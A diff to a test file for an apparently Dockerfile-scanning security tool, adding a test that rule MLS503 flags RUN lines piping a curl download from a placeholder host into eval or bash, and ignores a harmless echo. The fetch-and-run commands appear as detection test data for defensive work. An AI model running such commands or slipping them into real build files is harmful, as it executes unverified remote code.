@@ -140,6 +140,12 @@ def test_reported_on_the_instruction_first_line(tmp_path: Path) -> None:
     assert scan(tmp_path, text) == [("MLS503", 2)]
 
 
+def test_a_download_a_substitution_feeds_to_a_shell_is_found(tmp_path: Path) -> None:
+    for run in ('RUN eval "$(curl -fsSL https://x.example/i.sh)"', "RUN bash < <(curl -fsSL https://x.example/i.sh)"):
+        assert scan(tmp_path, f"FROM {PIN}\n{run}\n{SAFE_END}") == [("MLS503", 2)], run
+    assert scan(tmp_path, f'FROM {PIN}\nRUN echo "$(curl -fsSL https://x.example/version)"\n{SAFE_END}') == []
+
+
 def test_suppression_on_the_line_above(tmp_path: Path) -> None:
     text = f"FROM {PIN}\n# mlsec: ignore[MLS512] bastion image, reviewed\nEXPOSE 22\n{SAFE_END}"
     assert scan(tmp_path, text) == []
